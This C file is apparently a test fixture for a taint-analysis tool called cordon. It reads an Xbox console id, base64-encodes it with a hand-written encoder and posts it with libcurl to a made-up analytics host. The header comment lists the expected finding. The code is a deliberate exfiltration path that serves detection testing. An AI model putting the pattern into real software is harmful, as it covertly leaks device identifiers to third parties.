/* xbox_console_encoder: sample title (g). LEAKY, through an encoder.
 *
 * What it does: reads the Xbox console id (XSystemGetConsoleId), wraps it
 * in JSON with snprintf, base64-encodes that with its own encoder
 * (base64_encode, a table lookup per 6 bits), and posts the result with
 * libcurl as CURLOPT_POSTFIELDS to
 * https://collector.example-analytics.test/v1/batch (a made-up host).
 *
 * What cordon must find: one exfiltration path, source XSystemGetConsoleId
 * (xbox, device) to sink curl_easy_setopt (CURLOPT_POSTFIELDS), through
 * snprintf and base64_encode, endpoint collector.example-analytics.test
 * (unknown vendor): high under zero-trust. The encoder's table lookups are
 * indexed by the data, so a def-use that does not follow loads through a
 * tainted index may only reach callgraph confidence.
 *
 * Running it: the mock curl prints "payload=<base64>"; decoded, it holds
 * console id MOCK.CONSOLE.0001. */
#include "sample_common.h"

#include <curl/curl.h>
#include <gdk/XSystem.h>

#include <stdio.h>
#include <string.h>

static const char kBatchUrl[] = "https://collector.example-analytics.test/v1/batch";

SAMPLE_KEEP static size_t base64_encode(const unsigned char* in, size_t size, char* out) {
  static const char kAlphabet[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  size_t o = 0;
  for (size_t i = 0; i < size; i += 3) {
    unsigned value = (unsigned)in[i] << 16;
    if (i + 1 < size) value |= (unsigned)in[i + 1] << 8;
    if (i + 2 < size) value |= in[i + 2];
    out[o++] = kAlphabet[(value >> 18) & 63];
    out[o++] = kAlphabet[(value >> 12) & 63];
    out[o++] = i + 1 < size ? kAlphabet[(value >> 6) & 63] : '=';
    out[o++] = i + 2 < size ? kAlphabet[value & 63] : '=';
  }
  out[o] = '\0';
  return o;
}

int main(void) {
  char console_id[XSystemConsoleIdBytes];
  size_t used = 0;
  if (FAILED(XSystemGetConsoleId(sizeof console_id, console_id, &used))) return 1;

  char json[96];
  int length = snprintf(json, sizeof json, "{\"console\":\"%s\",\"build\":\"1.0.3\"}", console_id);
  char encoded[160];
  base64_encode((const unsigned char*)json, (size_t)length, encoded);
  char body[176];
  snprintf(body, sizeof body, "payload=%s", encoded);

  CURL* curl = curl_easy_init();
  if (curl == NULL) return 1;
  curl_easy_setopt(curl, CURLOPT_URL, kBatchUrl);
  curl_easy_setopt(curl, CURLOPT_POSTFIELDS, body);
  CURLcode result = curl_easy_perform(curl);
  curl_easy_cleanup(curl);
  return result == CURLE_OK ? 0 : 1;
}
